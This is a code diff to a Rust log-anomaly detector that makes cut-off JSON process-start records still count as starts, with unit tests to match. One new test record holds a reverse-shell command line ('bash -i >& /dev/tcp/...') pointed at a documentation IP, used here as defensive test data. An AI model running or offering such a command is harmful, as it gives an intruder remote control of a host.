@@ -11,13 +11,15 @@ use super::anomaly::process::ProcessStart;
 use super::anomaly::rules::RuleSet;
 use super::is_record_alone;
 use super::signal::Said;
-use model::{Event, Timestamp};
+use model::{Defect, Event, Timestamp};
 use serde::{Deserialize, Serialize};
 
 /// Keys that name a process.
 const NAMES: [&str; 3] = ["process_name", "image", "exe"];
 /// Keys that only a start of it has.
 const STARTED: [&str; 5] = ["command_line", "cmdline", "parent_name", "parent_image", "ppid"];
+/// Those that can be long enough for a record to be cut.
+const COMMANDS: [&str; 2] = ["command_line", "cmdline"];
 /// Starts that a host is reckoned to have a day, unless it was seen to have more: what the chance of a false
 /// alarm is multiplied with.
 const PER_DAY_MIN: f64 = 2_000.0;
@@ -31,10 +33,15 @@ const REASON_LETTERS_MAX: usize = 240;
 const COMMAND_LETTERS_MAX: usize = 160;
 
 /// Whether an event is the record of a start of a process: a JSON object that names a process and how it came to be,
-/// and says nothing else.
+/// and says nothing else; or the beginning of one that was cut.
 pub fn is_start(event: &Event<'_>) -> bool {
     if !is_record_alone(event) {
         return false;
+    }
+    if event.defects.has(Defect::JsonBroken) {
+        // Of a record that was cut, which whoever chose its command line can bring about, the beginning counts.
+        let names = COMMANDS.iter().chain(&NAMES).any(|name| event.body.contains(*name));
+        return names && ProcessStart::from_cut_json(&event.body).is_some();
     }
     let has = |keys: &[&str]| {
         event.attributes.iter().any(|(name, value)| keys.contains(&&**name) && !value.is_empty())
@@ -167,6 +174,8 @@ mod tests {
             r#"{"timestamp":"2026-11-20T08:00:00Z","host":"oak","process_name":"sh","ppid":0}"#,
             r#"{"image":"C:\\Windows\\System32\\cmd.exe","parent_image":"C:\\Windows\\explorer.exe"}"#,
             r#"{"exe":"/usr/bin/ls","cmdline":"ls -l"}"#,
+            r#"{"process_name":"sh","command_line":"sh -c"#,
+            r#"{"command_line":"/bin/sh -c 'bash -i >& /dev/tcp/192.0.2.1/9"#,
         ] {
             assert!(is_read_as_start(line), "{line}");
         }
@@ -179,7 +188,8 @@ mod tests {
             r#"{"process_name":"sh","cpu_percent":3}"#,
             r#"{"process_name":"sh","command_line":""}"#,
             r#"{"command_line":"sh -c x","ppid":1}"#,
-            r#"{"process_name":"sh","command_line":"sh -c"#,
+            r#"{"process_name":"sh","cpu_percent":3,"threads":"#,
+            r#"{"msg":"a process was started","process_name":"sh","command_line":"sh -c"#,
             "process_name=sh command_line=x",
         ] {
             assert!(!is_read_as_start(line), "{line}");
